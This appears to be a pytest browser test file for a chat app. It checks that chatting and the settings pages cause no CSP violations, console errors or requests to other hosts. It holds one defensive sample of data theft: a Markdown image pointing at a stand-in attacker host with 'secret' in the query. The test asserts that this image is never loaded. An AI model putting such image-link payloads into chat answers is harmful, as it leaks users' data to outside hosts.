"""The whole chat in headless Chromium under the CSP: no violation, no console error.

The app runs with no ANTHROPIC_API_KEY, so the offline responder answers (it quotes the
message back as Markdown: a remote image in the message becomes one in the answer).
"""

import re

import pytest

from tests.fixtures.browser import AppServer

pytestmark = pytest.mark.browser

LEAK = "https://evil.example/?q=secret"

REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (e) => {
  window.reportViolation(`${e.effectiveDirective} blocked ${e.blockedURI || "inline"} `
    + `in ${e.sourceFile || document.URL}:${e.lineNumber}`);
});
"""


@pytest.fixture(scope="module")
def offline_server():
    server = AppServer({"ANTHROPIC_API_KEY": "", "ANTHROPIC_BASE_URL": ""}).start()
    yield server
    server.stop()


def watch(page) -> dict[str, list[str]]:
    """Every console error, page error, CSP violation and request to another host, kept
    across navigations."""
    seen = {"problems": [], "foreign requests": []}
    page.on(
        "console",
        lambda msg: (
            seen["problems"].append(f"console: {msg.text} ({msg.location['url']})")
            if msg.type == "error"
            else 0
        ),
    )
    page.on("pageerror", lambda error: seen["problems"].append(f"page error: {error}"))
    page.expose_function("reportViolation", lambda text: seen["problems"].append(f"CSP: {text}"))
    page.add_init_script(REPORT_VIOLATIONS)
    page.on(
        "request",
        lambda request: (
            seen["foreign requests"].append(request.url)
            if not request.url.startswith(("http://127.0.0.1", "ws://127.0.0.1"))
            else 0
        ),
    )
    return seen


def test_it_signs_up_and_chats_with_no_csp_violation_or_console_error(page, offline_server):
    seen = watch(page)
    url = offline_server.url

    page.goto(f"{url}/accounts/login/")
    page.click("text=Sign up")
    page.fill("#id_username", "csp-reader")
    page.fill("#id_password1", "correct-horse-battery-staple")
    page.fill("#id_password2", "correct-horse-battery-staple")
    page.click("button[type=submit]")
    page.wait_for_url(f"{url}/")

    page.fill("#composer-input", f"Look: ![leak]({LEAK}) and **bold**")
    page.press("#composer-input", "Enter")
    page.wait_for_url(re.compile(r"/c/\d+/$"))
    answer = page.locator("article.message.assistant .content.markdown")
    answer.wait_for()

    assert "Offline responder" in answer.inner_text()
    link = answer.locator(f'a[href="{LEAK}"]')
    assert link.inner_text() == f"Image: leak ({LEAK})"
    assert answer.locator("img").count() == 0

    page.reload()  # the same answer, rendered by the server this time
    answer.wait_for()
    assert answer.locator(f'a[href="{LEAK}"]').count() == 1
    page.goto(f"{url}/settings/")
    page.wait_for_load_state("load")

    assert seen["problems"] == []
    assert seen["foreign requests"] == []


def test_it_runs_the_memory_settings_page_with_no_csp_violation(page, offline_server):
    seen = watch(page)
    offline_server.create_user("csp-settings", "correct-horse-battery-staple")
    page.goto(f"{offline_server.url}/accounts/login/")
    page.fill("#id_username", "csp-settings")
    page.fill("#id_password", "correct-horse-battery-staple")
    page.click("button[type=submit]")
    page.wait_for_url(f"{offline_server.url}/")
    page.goto(f"{offline_server.url}/memory/settings/")
    page.wait_for_load_state("load")
    assert seen["problems"] == []
